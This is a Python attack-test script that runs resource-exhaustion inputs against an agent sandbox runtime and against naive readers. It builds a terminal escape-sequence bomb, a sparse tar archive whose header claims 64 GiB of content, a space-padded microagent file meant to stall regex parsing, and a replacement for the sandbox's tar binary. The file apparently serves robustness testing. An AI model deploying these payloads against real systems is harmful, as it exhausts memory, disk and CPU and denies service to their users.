"""An agent's process, run as a script: what a sandbox or a repository gives it, read by the runtime, or naively.

    python -m atoll_attacks.outside.runtime (atoll|naive) (terminal-bytes|archive|microagent)

It says DONE; how much it worked and grew is looked at by whoever started it. The naive readers know no bounds.
"""

from __future__ import annotations

import asyncio
import contextlib
import re
import shlex
import sys
import tarfile
import tempfile
from collections.abc import Callable
from pathlib import Path

READY = "READY"
"""Said before anything hostile is read."""
TERMINAL = "\x1b[10000@" * 20_000 + "\x1b[50L" * 20_000 + "\tx" * 50_000 + "\x1b[" + "1" * 9_000 + "H" + "\r" * 400_000
MICROAGENT = f"---\nname: a{' ' * 200_000}b\ntriggers:\n- a\n---\ntext\n"


def _header(key: str, value: str) -> str:
    rest = f" {key}={value}\n"
    return f"{len(rest) + len(str(len(rest) + 1))}{rest}"


def sparse_archive() -> bytes:
    """2.5 KiB that are 64 GiB of zeros to whoever believes the header of a sparse member."""
    head = "".join(
        _header(f"GNU.sparse.{key}", value)
        for key, value in (("major", "1"), ("minor", "0"), ("name", "zeros"), ("realsize", str(64 << 30)))
    ).encode()
    extended, member = tarfile.TarInfo("x"), tarfile.TarInfo("zeros")
    extended.type, extended.size, member.size = b"x", len(head), 512
    return (
        extended.tobuf(tarfile.USTAR_FORMAT)
        + head.ljust(512, b"\0")
        + member.tobuf(tarfile.USTAR_FORMAT)
        + b"0\n".ljust(512, b"\0")
        + bytes(1024)
    )


# -- as the runtime reads it -------------------------------------------------------------------------------------------


def _with_runtime(act: Callable[..., None]) -> None:
    from atoll.runtime import E2BRuntime

    with E2BRuntime(template="base") as runtime:
        asyncio.run(runtime.connect())
        print(READY, flush=True)
        act(runtime)


def _terminal(runtime: object) -> None:
    from atoll.runtime import CmdRunAction

    runtime.sandbox.sandbox.files.write("/tmp/bomb", TERMINAL)  # type: ignore[attr-defined]
    observation = runtime.run_action(CmdRunAction(command="cat /tmp/bomb; echo; echo all"))  # type: ignore[attr-defined]
    print(len(observation.content))


def _archive(runtime: object) -> None:
    """A sandbox whose `tar` says what it likes."""
    sandbox = runtime.sandbox.sandbox  # type: ignore[attr-defined]
    sandbox.files.write("/tmp/lie", sparse_archive(), user="root")
    script = (
        "import sys; data = open('/tmp/lie', 'rb').read(); names = [a for a in sys.argv[1:] if a.endswith('.tar')]\n"
    )
    script += "[open(n, 'wb').write(data) for n in names] or sys.stdout.buffer.write(data)"
    sandbox.files.write("/usr/bin/tar", f"#!/usr/bin/python3\n{script}\n", user="root")
    sandbox.commands.run("chmod 755 /usr/bin/tar; mkdir -p /tmp/tree && echo x > /tmp/tree/f", user="root")
    try:
        made = runtime.copy_from("/tmp/tree")  # type: ignore[attr-defined]
        print("copied", made.stat().st_size)
        made.unlink()
    except Exception as error:
        print(type(error).__name__, str(error)[:200])


def _microagent(runtime: object) -> None:
    sandbox = runtime.sandbox.sandbox  # type: ignore[attr-defined]
    place = f"{runtime.workspace}/.openhands/microagents"  # type: ignore[attr-defined]
    for number in range(4):
        sandbox.files.write(f"{place}/a{number}.md", MICROAGENT)
    with contextlib.suppress(Exception):
        print(len(runtime.get_microagents_from_selected_repo(None)))  # type: ignore[attr-defined]
    print(sandbox.commands.run(f"ls {shlex.quote(place)} | wc -l").stdout)


# -- as one reads it ---------------------------------------------------------------------------------------------------


def _naive_terminal() -> None:
    line: list[str] = []
    for count in re.findall(r"\x1b\[(\d{1,5})@", TERMINAL):
        line += [" "] * int(count)
    print(len(line))


def _naive_archive() -> None:
    with tempfile.TemporaryDirectory() as directory:
        place = Path(directory) / "a.tar"
        place.write_bytes(sparse_archive())
        with tarfile.open(place) as found:
            for member in found:
                file = found.extractfile(member)
                print(len(file.read(2 << 30)) if file is not None else 0)


def _naive_microagent() -> None:
    for line in MICROAGENT.splitlines():
        re.sub(r"\s+#.*$", "", line)


READERS: dict[tuple[str, str], Callable[[], None]] = {
    ("atoll", "terminal-bytes"): lambda: _with_runtime(_terminal),
    ("atoll", "archive"): lambda: _with_runtime(_archive),
    ("atoll", "microagent"): lambda: _with_runtime(_microagent),
    ("naive", "terminal-bytes"): _naive_terminal,
    ("naive", "archive"): _naive_archive,
    ("naive", "microagent"): _naive_microagent,
}

if __name__ == "__main__":
    READERS[sys.argv[1], sys.argv[2]]()
    print("DONE", flush=True)
